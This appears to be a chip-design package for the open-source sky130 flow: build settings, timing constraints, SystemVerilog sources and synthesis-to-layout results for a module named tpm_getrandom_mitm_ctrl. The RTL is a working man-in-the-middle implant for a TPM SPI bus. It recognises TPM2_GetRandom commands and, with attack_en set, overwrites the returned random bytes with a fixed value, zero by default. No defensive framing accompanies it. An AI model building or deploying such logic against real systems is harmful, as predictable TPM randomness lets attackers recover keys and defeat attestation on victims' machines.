==> config.mk <==
export PLATFORM = sky130hd
export DESIGN_NAME = tpm_getrandom_mitm_ctrl
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/tpm_spi_pkg.sv /design/src/rtl/tpm_spi_hdr_decoder.sv /design/src/rtl/tpm_getrandom_mitm_ctrl.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export CORE_MARGIN = 10
export CORE_UTILIZATION = 60
export CTS_BUF_LIST = sky130_fd_sc_hd__clkbuf_2
export DETAILED_ROUTE_END_ITERATION = 10
export GPL_ROUTABILITY_DRIVEN = 0
export PLACE_DENSITY = 0.81
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_HIERARCHICAL = 1
export SYNTH_SLANG_ARGS = --single-unit
==> constraint.sdc <==
create_clock -name sys_clk -period 6.3 [get_ports sys_clk]
set_clock_uncertainty 0.15 [all_clocks]
set_input_delay 0.945 -clock sys_clk [delete_from_list [all_inputs] [get_ports sys_clk]]
set_output_delay 0.945 -clock sys_clk [all_outputs]
set_load 0.02 [all_outputs]
==> src/rtl/tpm_spi_pkg.sv <==
// Shared constants for the TPM SPI MITM slice: FIFO address, GetRandom template, header/response field positions.
// Pure constants and a byte-match helper; no timing or flow control of its own.
package tpm_spi_pkg;

    localparam logic [23:0] TPM_FIFO_ADDR = 24'hD40024;

    localparam logic [15:0] GR_TAG  = 16'h8001;
    localparam logic [31:0] GR_LEN  = 32'h0000000C;
    localparam logic [31:0] GR_CODE = 32'h0000017B;
    localparam logic [79:0] GR_CMD  = {GR_TAG, GR_LEN, GR_CODE};
    localparam logic [3:0]  GR_CMD_LAST = 4'd11;

    localparam int          HDR_RW_BIT   = 7;
    localparam int          HDR_SIZE_MSB = 5;
    localparam logic [1:0]  HDR_LAST_IDX = 2'd3;

    localparam logic [6:0]  RSP_LEN_FIRST  = 7'd2;
    localparam logic [6:0]  RSP_LEN_LAST   = 7'd5;
    localparam logic [6:0]  RSP_RC_FIRST   = 7'd6;
    localparam logic [6:0]  RSP_RC_LAST    = 7'd9;
    localparam logic [6:0]  RSP_DIG_HI     = 7'd10;
    localparam logic [6:0]  RSP_DIG_LO     = 7'd11;
    localparam logic [6:0]  RSP_RAND_FIRST = 7'd12;

    localparam logic [1:0]  FS_IDLE = 2'd0;
    localparam logic [1:0]  FS_HDR  = 2'd1;
    localparam logic [1:0]  FS_DATA = 2'd2;
    localparam logic [1:0]  FS_SKIP = 2'd3;

    // Indices 10 and 11 (the requested byte count) accept any value.
    function automatic logic gr_cmd_match(input logic [3:0] idx, input logic [7:0] b);
        logic [79:0] sh;
        if (idx > 4'd9) begin
            return 1'b1;
        end
        sh = GR_CMD >> (8 * (9 - int'(idx)));
        return b == sh[7:0];
    endfunction

endpackage

==> src/rtl/tpm_spi_hdr_decoder.sv <==
// TPM SPI frame decoder: 4-byte header (rw, size, 24-bit address), then DATA for the FIFO register or SKIP.
// Outputs are registered state plus same-cycle qualifiers of byte_done; no backpressure, the SPI master sets the pace.
module tpm_spi_hdr_decoder
    import tpm_spi_pkg::*;
#(
    parameter logic [23:0] FIFO_ADDR = TPM_FIFO_ADDR
) (
    input  logic       sys_clk,
    input  logic       rst_n,
    input  logic       frame_start,
    input  logic       frame_end,
    input  logic       byte_done,
    input  logic [7:0] mosi_byte,
    output logic       is_fifo,
    output logic       rw,
    output logic [6:0] data_idx,
    output logic [6:0] size,
    output logic       data_byte_valid,
    output logic       hdr_done
);

    logic [1:0]  state;
    logic [1:0]  hdr_idx;
    logic [15:0] addr_hi;
    logic        addr_match;

    assign addr_match      = {addr_hi, mosi_byte} == FIFO_ADDR;
    assign is_fifo         = state == FS_DATA;
    assign data_byte_valid = is_fifo && byte_done && !frame_start && (data_idx < size);
    assign hdr_done        = (state == FS_HDR) && byte_done && !frame_start &&
                             (hdr_idx == HDR_LAST_IDX) && addr_match;

    always_ff @(posedge sys_clk or negedge rst_n) begin
        if (!rst_n) begin
            state    <= FS_IDLE;
            hdr_idx  <= 2'd0;
            addr_hi  <= 16'h0000;
            rw       <= 1'b0;
            size     <= 7'd0;
            data_idx <= 7'd0;
        end else if (frame_start) begin
            // A restart drops whatever byte completes alongside it.
            state    <= FS_HDR;
            hdr_idx  <= 2'd0;
            data_idx <= 7'd0;
        end else begin
            if (byte_done) begin
                case (state)
                    FS_HDR: begin
                        hdr_idx <= hdr_idx + 2'd1;
                        if (hdr_idx == 2'd0) begin
                            rw   <= mosi_byte[HDR_RW_BIT];
                            size <= {1'b0, mosi_byte[HDR_SIZE_MSB:0]} + 7'd1;
                        end else if (hdr_idx != HDR_LAST_IDX) begin
                            addr_hi <= {addr_hi[7:0], mosi_byte};
                        end else begin
                            state    <= addr_match ? FS_DATA : FS_SKIP;
                            data_idx <= 7'd0;
                        end
                    end
                    FS_DATA: begin
                        if (data_idx != 7'h7F) begin
                            data_idx <= data_idx + 7'd1;
                        end
                    end
                    default: ;
                endcase
            end
            if (frame_end) begin
                state <= FS_IDLE;
            end
        end
    end

endmodule

==> src/rtl/tpm_getrandom_mitm_ctrl.sv <==
// Tracks TPM2_GetRandom commands/responses through the FIFO register and flags random response bytes for override.
// Override decision registered 1 cycle after the previous byte_done; no backpressure, needs >=2 cycle byte gap.
module tpm_getrandom_mitm_ctrl
    import tpm_spi_pkg::*;
#(
    parameter logic [23:0] FIFO_ADDR     = TPM_FIFO_ADDR,
    parameter int          NUM_DATA_BITS = 8,
    parameter logic [NUM_DATA_BITS-1:0] REPLACE_BYTE = 8'h00,
    parameter int          MAX_RESP_LEN  = 64
) (
    input  logic                     sys_clk,
    input  logic                     rst_n,
    input  logic                     attack_en,
    input  logic                     frame_start,
    input  logic                     frame_end,
    input  logic                     byte_done,
    input  logic [NUM_DATA_BITS-1:0] mosi_byte,
    input  logic [NUM_DATA_BITS-1:0] miso_byte,
    output logic                     ovr_en,
    output logic [NUM_DATA_BITS-1:0] ovr_data,
    output logic                     cmd_armed,
    output logic                     resp_done,
    output logic [15:0]              replaced_cnt
);

    logic       is_fifo;
    logic       rw;
    logic [6:0] data_idx;
    logic [6:0] size;
    logic       data_byte_valid;
    logic       hdr_done;

    tpm_spi_hdr_decoder #(
        .FIFO_ADDR (FIFO_ADDR)
    ) u_hdr (
        .sys_clk         (sys_clk),
        .rst_n           (rst_n),
        .frame_start     (frame_start),
        .frame_end       (frame_end),
        .byte_done       (byte_done),
        .mosi_byte       (mosi_byte),
        .is_fifo         (is_fifo),
        .rw              (rw),
        .data_idx        (data_idx),
        .size            (size),
        .data_byte_valid (data_byte_valid),
        .hdr_done        (hdr_done)
    );

    logic [3:0]  cmd_idx;
    logic [6:0]  rsp_idx;
    logic [31:0] resp_len;
    logic [15:0] dig_n;

    logic [3:0]  cmd_idx_nxt;
    logic        armed_nxt;
    logic [6:0]  rsp_idx_nxt;
    logic [31:0] resp_len_nxt;
    logic [15:0] dig_n_nxt;
    logic        done_nxt;
    logic [3:0]  eff_idx;
    logic [31:0] len_full;
    logic        wr_byte;
    logic        rd_byte;

    assign ovr_data = REPLACE_BYTE;
    assign wr_byte  = data_byte_valid && !rw;
    assign rd_byte  = data_byte_valid && rw && cmd_armed;

    always_comb begin
        cmd_idx_nxt  = cmd_idx;
        armed_nxt    = cmd_armed;
        rsp_idx_nxt  = rsp_idx;
        resp_len_nxt = resp_len;
        dig_n_nxt    = dig_n;
        done_nxt     = 1'b0;
        eff_idx      = cmd_armed ? 4'd0 : cmd_idx;
        len_full     = {resp_len[23:0], miso_byte};
        if (wr_byte) begin
            // Any new command write abandons a pending response.
            armed_nxt = 1'b0;
            if (gr_cmd_match(eff_idx, mosi_byte)) begin
                if (eff_idx == GR_CMD_LAST) begin
                    armed_nxt   = 1'b1;
                    cmd_idx_nxt = 4'd0;
                    rsp_idx_nxt = 7'd0;
                end else begin
                    cmd_idx_nxt = eff_idx + 4'd1;
                end
            end else begin
                cmd_idx_nxt = gr_cmd_match(4'd0, mosi_byte) ? 4'd1 : 4'd0;
            end
        end else if (rd_byte) begin
            rsp_idx_nxt = rsp_idx + 7'd1;
            if (rsp_idx >= RSP_LEN_FIRST && rsp_idx <= RSP_LEN_LAST) begin
                resp_len_nxt = len_full;
            end
            if (rsp_idx == RSP_LEN_LAST &&
                (len_full < 32'd12 || len_full > 32'(MAX_RESP_LEN))) begin
                armed_nxt = 1'b0;
            end
            if (rsp_idx >= RSP_RC_FIRST && rsp_idx <= RSP_RC_LAST && miso_byte != 8'h00) begin
                armed_nxt = 1'b0;
            end
            if (rsp_idx == RSP_DIG_HI) begin
                dig_n_nxt = {8'h00, miso_byte};
            end
            if (rsp_idx == RSP_DIG_LO) begin
                dig_n_nxt = {dig_n[7:0], miso_byte};
            end
            if (rsp_idx > RSP_LEN_LAST && {25'd0, rsp_idx} == resp_len - 32'd1) begin
                done_nxt  = 1'b1;
                armed_nxt = 1'b0;
            end
        end
    end

    logic nxt_rd;
    logic in_rng;
    logic decision;

    // Decide for the byte that follows the one completing now, using post-update parser state.
    assign nxt_rd = rw && !frame_start && !frame_end &&
                    (hdr_done || (is_fifo && byte_done &&
                                  (({1'b0, data_idx} + 8'd1) < {1'b0, size})));
    assign in_rng = armed_nxt && (rsp_idx_nxt >= RSP_RAND_FIRST) &&
                    ({10'd0, rsp_idx_nxt} < ({1'b0, dig_n_nxt} + 17'd12)) &&
                    ({25'd0, rsp_idx_nxt} < resp_len_nxt);
    assign decision = attack_en && nxt_rd && in_rng;

    always_ff @(posedge sys_clk or negedge rst_n) begin
        if (!rst_n) begin
            cmd_idx      <= 4'd0;
            cmd_armed    <= 1'b0;
            rsp_idx      <= 7'd0;
            resp_len     <= 32'd0;
            dig_n        <= 16'd0;
            resp_done    <= 1'b0;
            ovr_en       <= 1'b0;
            replaced_cnt <= 16'd0;
        end else begin
            cmd_idx   <= cmd_idx_nxt;
            cmd_armed <= armed_nxt;
            rsp_idx   <= rsp_idx_nxt;
            resp_len  <= resp_len_nxt;
            dig_n     <= dig_n_nxt;
            resp_done <= done_nxt;
            if (frame_start || frame_end) begin
                ovr_en <= 1'b0;
            end else if (byte_done) begin
                ovr_en <= decision;
            end
            if (byte_done && ovr_en && replaced_cnt != 16'hFFFF) begin
                replaced_cnt <= replaced_cnt + 16'd1;
            end
        end
    end

endmodule

==> results.yml <==
pwr:
  vdd_drop_max_mv: 0.275
  total_power_w: 0.00139
  clockPowerShare: 0.295
  p_seq_frac: 0.594
  p_leak_nw: 3.54
  power.density_nw_per_um2: 181
  p_sw_frac: 0.285
  pwr-share-comb: 0.111
  p_sw_w: 0.000395
  internal_power_w: 0.000990
placed_design:
  io_buffer_count: 40
  post_dp_cell_area_sq_um: 7440
  dp_slack_ps: 329
  hpwlAfterDp_microns: 12000
setup_path:
  worstSetupPathType: "input pin to flip-flop"
  crit_fanout: 10
  endpoint_kind: "flip-flop"
  crit_start: "frame_start"
  worst_r2r_path_depth: 18
  rr_endpoint: "ovr_en"
  r2r-start: "cmd_armed"
  crit_required_ps: 6720
  critPathLaunchType: "input pin"
  crit_end: "ovr_en"
  r2r_slack_ps: 1060
  cp_data_arrival_time_ps: 5820
global_route:
  grt_max_degree: 83
  first_global_vias: 5674
  grt_pass1_wl_microns: 27100
  antenna_found_initial: 0
  track_usage: 0.200
  gr-total-overflow: 0
detailed_routing:
  wl_per_cell_microns: 17.4
  totalWireLength_microns: 16100
  drcViolationCount: 0
  drt_pass1_iterations: 5
  antenna_left: 0
  viasPerCell: 6.21
  vias: 5749
  initialDrtViolationCount: 543
clock_network:
  cts_setup_buffers: 0
  ctsResizeCount: 0
  h-tree-depth: 4
  cts_hold_buf: 0
  numCtsBuffers: 17
  clkSinkCount: 113
  clk_pin_slew_ps: 180
  cts_tree: "built"
  clock_latency_ps: 670
  cts-root-buf: "clkbuf_2"
  clock_path_buffers: 2
worst_hold_path:
  hp-class: "flip-flop to flip-flop"
cells_and_area:
  layout_commonest_cell: "dfrtp_1"
  final_area_sq_um: 7640
  syn_to_final_growth_pct: 10.1
  n_antenna_cell: 0
  nets: 831
  nFillCells: 921
  multi_input_area_sq_um: 3770
  drive_gt1_frac: 0.133
  seq_area_sq_um: 2830
  final_cell_mix: "dfrtp_1, nand2_1, inv_1"
sta:
  slew_violations: 0
  fin_tns_setup_ps: 0
  hold_violations: 0
  tightest_slew_ps: 985
  rsz0062_at_grt: "no"
  timing.slew.headroom: 0.344
  timing.final.crit_share: 0.857
  whs_ps: 353
  clock.fmax_mhz: 185
  setup_viol: 0
  min_period_ps: 5400
  timing.final.ws_setup_ps: 899
yosys:
  yosysSeqAreaShare: 0.407
  yosysUniqueCellTypes: 74
  async_flop_share: 1.00
  ys_warn_count: 6
  synth_flop_cell: "dfrtp_1"
  synth-edff-count: 0
  syn_avg_cell_area_sq_um: 9.57
  syn-cell-area_sq_um: 6940
  synth_cells: 725
  synth-seq-cells: 113
run:
  drv_cap: 0
die:
  boundaryPins: 49
  core-area_sq_um: 11400
  die_h_microns: 128
  die_w_microns: 128
  initial_core_util: 0.610
  design.die.area_sq_um: 16300
  core.rowCount: 39
outcome:
  outcome: "complete, no violations"
-- worst max-delay path: stages --
cell and delay (ps):
clkdlybuf4s50_1 570, nand4bb_1 460, a211o_1 370, a31oi_1 270, o2111ai_1 250, nor3_4 180, buf_4 200, mux2i_1 110
ha_1 280, o31ai_1 390, xnor2_1 150, ha_1 340, nand3_1 110, a2111oi_0 480, o211ai_1 180, a311oi_1 280
nand4b_1 170, a211oi_2 80
-- stage by stage --
stage | util | cells
2_1_floorplan | - | 732
3_3_place_gp | 0.655 | 894
3_5_place_dp | 0.655 | 894
4_1_cts | 0.671 | 925
5_1_grt | 0.672 | 926
6_report | 0.672 | 926
-- cell type report --
cell class	count	share of cell area
Clock buffer	18	0.0118
Clock inverter	13	0.0128
Inverter	55	0.0270
Multi-Input combinational cell	535	0.494
Sequential cell	113	0.370
Tap cell	143	0.0234
Timing Repair Buffer	49	0.0612
-- metal layers --
metal,track usage,vias up,routed length [microns]
met5,0,-,0
met4,0.0710,0,273
met3,0.0558,27,1070
met2,0.325,221,7830
met1,0.249,2789,6910
li1,-,2712,-
-- how the worst min path moves through the flow --
stage | start | endpoint | slack (ps) | cells after the start
6_report | replaced_cnt[4] | replaced_cnt[4] | 350 | 1
5_1_grt | u_hdr/addr_hi[12] | u_hdr/addr_hi[12] | 380 | 1
4_1_cts | rst_n | u_hdr/addr_hi[6] | 4 | 1
3_5_place_dp | replaced_cnt[4] | replaced_cnt[4] | 330 | 1
3_3_place_gp | replaced_cnt[4] | replaced_cnt[4] | 330 | 1
2_1_floorplan | dig_n[1] | dig_n[1] | 320 | 2
-- Yosys cell counts (4+ instances only) --
cell,count,area share
dfrtp_1,113,0.41
nand2_1,72,0.039
inv_1,55,0.030
mux2_2,48,0.078
nand3_1,41,0.030
ha_1,38,0.069
nor2_1,34,0.018
xnor2_1,27,0.034
o21ai_0,25,0.018
nor3_1,22,0.016
a21oi_1,19,0.014
nor4_1,15,0.014
clkbuf_1,14,0.0076
xor2_1,14,0.018
and3_1,12,0.011
nand4_1,11,0.0099
a31oi_1,9,0.0081
buf_4,8,0.0087
nand2b_1,8,0.0072
a22oi_1,7,0.0076
o31ai_1,7,0.0076
or2_2,7,0.0063
or3_1,7,0.0063
mux2i_1,6,0.0087
nor2b_1,6,0.0054
o211ai_1,6,0.0065
a211oi_1,5,0.0054
nand4b_1,5,0.0063
o2111ai_1,5,0.0063
o2bb2ai_1,5,0.0063
a211o_1,4,0.0050
and3b_1,4,0.0050
buf_2,4,0.0029
o22ai_1,4,0.0036
-- power groups by stage --
| stage | sequential (W) | clock [W] | combinational (W) |
|---|---|---|---|
| 6_report | 0.000823 | 0.000409 | 0.000154 |
| 5_1_grt | 0.000830 | 0.000458 | 0.000174 |
| 2_1_floorplan | 0.000821 | 0 | 0.000104 |
| 3_5_place_dp | 0.000836 | 0 | 0.000153 |
| 4_1_cts | 0.000822 | 0.000422 | 0.000155 |
| 3_3_place_gp | 0.000833 | 0 | 0.000145 |
-- sequential cells by signal, summed over array words and instances (netlist names) --
name and count:
cmd_armed 1, cmd_idx 4, dig_n 16, ovr_en 1, replaced_cnt 16, resp_done 1, resp_len 32, rsp_idx 7
u_hdr/addr_hi 16, u_hdr/data_idx 7, u_hdr/hdr_idx 2, u_hdr/rw 1, u_hdr/size 7, u_hdr/state 2
-- cell families (layout without fill, tap and decap cells) --
group,count (synthesis),count (layout),synth area share
simple gates,266,266,0.203
buf+inv,84,135,0.0526
fa+ha+maj,39,39,0.0699
other cells,1,8,0.000540
mux,54,54,0.0865
flops,113,113,0.407
xor+xnor,41,41,0.0517
compound gates,127,127,0.128
No activity file was read; power rests on OpenSTA's default activity.
